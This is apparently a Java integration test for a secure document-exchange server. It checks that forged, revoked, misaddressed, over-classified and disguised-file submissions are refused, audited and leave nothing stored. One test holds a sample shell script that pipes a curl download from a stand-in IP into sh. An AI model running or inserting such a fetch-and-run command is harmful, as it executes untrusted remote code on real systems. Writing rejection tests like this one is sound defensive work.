package dev.pouch.server.submission;

import dev.pouch.crypto.corpus.Forgeries;
import dev.pouch.crypto.document.Attachment;
import dev.pouch.crypto.document.Classification;
import dev.pouch.crypto.document.DocumentHeader;
import dev.pouch.crypto.document.OrgCode;
import dev.pouch.crypto.document.Precedence;
import dev.pouch.crypto.pki.CertificateProfile;
import dev.pouch.crypto.pki.Identity;
import dev.pouch.crypto.pki.PkixCertificateValidator;
import dev.pouch.crypto.pki.RevocationReason;
import dev.pouch.crypto.pki.TrustStore;
import dev.pouch.crypto.seal.CmsSealer;
import dev.pouch.crypto.testing.TestPki;
import dev.pouch.protocol.ErrorCode;
import dev.pouch.protocol.ProtocolException;
import dev.pouch.server.pki.ExchangePki;
import dev.pouch.server.routing.QueueDepths;
import dev.pouch.server.testing.Letters;
import dev.pouch.server.testing.TestOffice;
import dev.pouch.server.testing.TestServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.security.cert.X509Certificate;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Supplier;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * Every way a submission is refused: each gets its stable code, an audit entry, and leaves
 * nothing behind — no document, no routing, no upload, no stored object, nothing queued, nothing
 * delivered to the recipient (who is connected throughout and must receive nothing).
 */
class RefusalIT {

    private static TestServer server;
    private static TestOffice hq;
    private static TestOffice recipient;
    /** What the recipient may legitimately receive: only the first of the duplicate-number pair. */
    private static final java.util.Set<UUID> accepted = java.util.concurrent.ConcurrentHashMap.newKeySet();

    @BeforeAll
    static void connect() {
        server = TestServer.shared();
        hq = server.office("HQ-FT").awaitConnected();
        recipient = server.office("IT-EMB").awaitConnected();
    }

    @AfterAll
    static void recipientReceivedNothing() throws InterruptedException {
        Thread.sleep(1000); // anything wrongly queued would have been pushed by now
        assertThat(recipient.received().keySet()).isEqualTo(accepted);
        server.bean(QueueDepths.class).sample();
        assertThat(server.bean(QueueDepths.class).depth("IT-EMB")).isZero();
        server.closeOffices();
    }

    private static Letters.Letter letter() {
        return Letters.notice("HQ-FT", List.of("IT-EMB"), "Avviso: statistiche del commercio — trade statistics");
    }

    @Test
    void a_document_from_another_organization_than_the_signed_in_staff_member() {
        TestOffice.Keys other = server.enrol("HQ-FIA", "someone");
        Letters.Letter forged = Letters.notice("HQ-FIA", List.of("IT-EMB"), "sent in the name of another department");
        CmsSealer otherSealer = CmsSealer.builder().signer(other.signing()).validator(server.bean(ExchangePki.class).validator()).build();
        byte[] sealed = otherSealer.seal(forged.header(), forged.content(), hq.recipientCertificates(forged.header())).encoded();
        assertRefused(forged.id(), ErrorCode.SENDER_MISMATCH, () -> hq.submitSealed(forged.id(), sealed));
    }

    @Test
    void a_signature_that_does_not_verify() {
        Letters.Letter l = letter();
        byte[] sealed = Forgeries.tamperedSignature(hq.keys().signing(), l.header(), l.content(), hq.recipientCertificates(l.header()));
        assertRefused(l.id(), ErrorCode.CRYPTO_SIGNATURE_INVALID, () -> hq.submitSealed(l.id(), sealed));
    }

    @Test
    void a_signer_whose_certificate_was_revoked() {
        TestOffice.Keys departed = server.enrol("HQ-AID", "officer");
        try (TestOffice aid = server.connect(departed).awaitConnected()) {
            Letters.Letter l = Letters.notice("HQ-AID", List.of("IT-EMB"), "signed just before the key was withdrawn");
            byte[] sealed = aid.seal(l.header(), l.content());
            server.bean(ExchangePki.class).revoke(departed.signing().certificate().getSerialNumber().toString(16),
                    RevocationReason.KEY_COMPROMISE);
            assertRefused(l.id(), ErrorCode.CRYPTO_CERTIFICATE_REVOKED, () -> aid.submitSealed(l.id(), sealed));
        }
    }

    @Test
    void a_recipient_that_is_not_an_organization_of_this_exchange() throws Exception {
        // A well-formed code with a genuine key from another authority: the envelope is sound,
        // the directory does not know the organization.
        TestPki elsewhere = TestPki.create(Clock.systemUTC(), "Elsewhere Root CA");
        X509Certificate stranger = elsewhere.org("ZZ-EMB").keyAgreement().certificate();
        TrustStore both = TrustStore.of(List.of(server.root(), elsewhere.root()));
        both.update(server.bean(ExchangePki.class).currentCrl());
        elsewhere.trustStore().crlFor(elsewhere.root().getSubjectX500Principal()).ifPresent(both::update);
        CmsSealer sealer = CmsSealer.builder().signer(hq.keys().signing())
                .validator(new PkixCertificateValidator(both, Clock.systemUTC())).build();
        Letters.Letter l = Letters.notice("HQ-FT", List.of("IT-EMB", "ZZ-EMB"), "to an office that does not exist");
        List<X509Certificate> certificates = new ArrayList<>(hq.recipientCertificates(
                Letters.notice("HQ-FT", List.of("IT-EMB"), "x").header()));
        certificates.add(stranger);
        byte[] sealed = sealer.seal(l.header(), l.content(), certificates).encoded();
        assertRefused(l.id(), ErrorCode.UNKNOWN_RECIPIENT, () -> hq.submitSealed(l.id(), sealed));
    }

    @Test
    void a_document_in_parts_whose_parts_were_swapped() throws Exception {
        java.nio.file.Path work = java.nio.file.Files.createTempDirectory("pouch-parts");
        try (TestOffice small = TestOffice.connect(hq.keys(), server.root(), "127.0.0.1", server.exchangePort(), 64 * 1024)
                .awaitConnected()) {
            Letters.Letter l = Letters.notice("HQ-FT", List.of("IT-EMB"), "统计数据 trade statistics ".repeat(6000));
            java.nio.file.Path content = java.nio.file.Files.write(work.resolve("content"), l.content());
            assertRefused(l.id(), ErrorCode.CRYPTO_PART_INVALID, () -> small.sendParts(l.header(), content, work,
                    parts -> {
                        assertThat(parts).hasSizeGreaterThan(2);
                        List<java.nio.file.Path> swapped = new ArrayList<>(parts);
                        java.util.Collections.swap(swapped, parts.size() - 1, parts.size() - 2);
                        return swapped;
                    }));
        }
    }

    @Test
    void a_classification_above_the_accredited_ceiling() {
        for (Classification c : List.of(Classification.SECRET, Classification.CONFIDENTIAL, Classification.TOP_SECRET)) {
            Letters.Letter l = Letters.letter("HQ-FT", List.of("IT-EMB"), "classified " + c, Precedence.FLASH, c);
            assertRefused(l.id(), ErrorCode.CLASSIFICATION_ABOVE_CEILING, () -> hq.send(l.header(), l.content()));
        }
    }

    @Test
    void an_executable_disguised_as_a_pdf() {
        byte[] elf = elf();
        assertAttachmentRefused("report.pdf", "application/pdf", elf, ErrorCode.FILE_TYPE_REFUSED);
    }

    @Test
    void a_windows_program_disguised_as_text() {
        assertAttachmentRefused("notes.txt", "text/plain", windowsExecutable(), ErrorCode.FILE_TYPE_REFUSED);
    }

    @Test
    void a_shell_script_disguised_as_text() {
        byte[] script = "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n".getBytes(StandardCharsets.UTF_8);
        assertAttachmentRefused("readme.txt", "text/plain", script, ErrorCode.FILE_TYPE_REFUSED);
    }

    @Test
    void a_pdf_declared_as_a_spreadsheet() {
        byte[] pdf = ("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
                .getBytes(StandardCharsets.US_ASCII);
        assertAttachmentRefused("figures.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", pdf,
                ErrorCode.CONTENT_TYPE_MISMATCH);
    }

    @Test
    void a_document_number_the_issuer_already_used_this_year() {
        Letters.Letter first = letter();
        hq.send(first.header(), first.content());
        recipient.awaitDocument(first.id(), Duration.ofSeconds(20));
        DocumentHeader again = Letters.header("HQ-FT", List.of("IT-EMB"), Precedence.URGENT, Classification.INTERNAL)
                .documentNumber(first.header().documentNumber())
                .attachment(new Attachment("notice.txt", "text/plain", first.content().length)).build();
        assertRefused(again.documentId(), ErrorCode.DUPLICATE_DOCUMENT_NUMBER, () -> hq.send(again, first.content()));
        assertThat(server.jdbc().queryForObject("SELECT count(*) FROM document WHERE number = ?", Long.class,
                first.header().documentNumber())).isOne();
        accepted.add(first.id());
    }

    private void assertAttachmentRefused(String name, String mediaType, byte[] content, ErrorCode code) {
        DocumentHeader h = Letters.header("HQ-FT", List.of("IT-EMB"), Precedence.URGENT, Classification.INTERNAL)
                .attachment(new Attachment(name, mediaType, content.length)).build();
        assertRefused(h.documentId(), code, () -> hq.send(h, content));
    }

    /** The submission fails with {@code code}, is audited as refused, and leaves nothing stored. */
    private static void assertRefused(UUID id, ErrorCode code, Supplier<?> submit) {
        String owner = Identity.staff(OrgCode.of("HQ-FT"), "officer").toString();
        assertThatThrownBy(submit::get).isInstanceOfSatisfying(ProtocolException.class,
                e -> assertThat(e.code()).as(e.getMessage()).isEqualTo(code));
        List<Map<String, Object>> audit = server.jdbc().queryForList(
                "SELECT action, outcome, detail FROM audit_log WHERE subject = ?", id.toString());
        assertThat(audit).singleElement().satisfies(row -> {
            assertThat(row.get("action")).isEqualTo("SUBMISSION_REFUSED");
            assertThat(row.get("outcome")).isEqualTo("REFUSED");
            assertThat((String) row.get("detail")).startsWith(code.name());
        });
        assertThat(count("SELECT count(*) FROM document WHERE id = ?", id)).isZero();
        assertThat(count("SELECT count(*) FROM recipient WHERE document_id = ?", id)).isZero();
        assertThat(count("SELECT count(*) FROM outbox WHERE document_id = ?", id)).isZero();
        assertThat(count("SELECT count(*) FROM document_text WHERE document_id = ?", id)).isZero();
        assertThat(count("SELECT count(*) FROM upload WHERE owner = ?", owner)).isZero();
        assertThat(server.orphanBlobs()).isZero();
    }

    private static long count(String sql, Object... args) {
        return server.jdbc().queryForObject(sql, Long.class, args);
    }

    /** A minimal 64-bit ELF executable header (x86-64, ET_EXEC), padded. */
    private static byte[] elf() {
        byte[] b = new byte[512];
        byte[] ident = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0};
        System.arraycopy(ident, 0, b, 0, ident.length);
        b[16] = 2;      // e_type: executable
        b[18] = 0x3e;   // e_machine: x86-64
        b[20] = 1;      // e_version
        b[52] = 64;     // e_ehsize
        return b;
    }

    /** "MZ" DOS header pointing at a "PE\0\0" header, as every Windows program starts. */
    private static byte[] windowsExecutable() {
        byte[] b = new byte[1024];
        b[0] = 'M';
        b[1] = 'Z';
        b[0x3c] = (byte) 0x80;
        b[0x80] = 'P';
        b[0x81] = 'E';
        b[0x84] = 0x4c;
        b[0x85] = 0x01;
        byte[] stub = "This program cannot be run in DOS mode.".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(stub, 0, b, 0x4e, stub.length);
        return b;
    }
}
